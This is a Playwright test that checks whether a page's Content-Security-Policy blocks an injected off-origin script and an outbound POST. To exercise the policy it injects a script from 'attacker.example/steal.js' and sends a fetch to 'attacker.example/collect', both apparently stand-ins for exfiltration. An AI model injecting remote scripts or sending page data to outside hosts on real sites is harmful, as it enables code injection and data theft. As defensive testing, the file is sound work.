import { expect, test } from '@playwright/test';

// Plain Playwright test, not the guard: this test provokes the console error the guard forbids.
test('the Content-Security-Policy blocks an injected off-origin script and lets nothing leave', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') violations.push(message.text());
  });
  await page.goto('./');
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /default-src 'self'; script-src 'self' 'wasm-unsafe-eval'/);
  const outcome = await page.evaluate(
    () =>
      new Promise<{ loaded: boolean; violation: string | null }>((resolve) => {
        let violation: string | null = null;
        document.addEventListener('securitypolicyviolation', (event) => (violation = `${event.violatedDirective} ${event.blockedURI}`));
        const script = document.createElement('script');
        script.src = 'https://attacker.example/steal.js';
        script.onload = () => resolve({ loaded: true, violation });
        script.onerror = () => setTimeout(() => resolve({ loaded: false, violation }), 50);
        document.head.append(script);
      }),
  );
  expect(outcome.loaded).toBe(false);
  expect(outcome.violation).toMatch(/^script-src(-elem)? https:\/\/attacker\.example\/steal\.js$/);
  const sent = await page.evaluate(() => fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
  expect(sent).toBe('blocked');
  expect(violations.some((text) => text.includes('Content Security Policy'))).toBe(true);
});
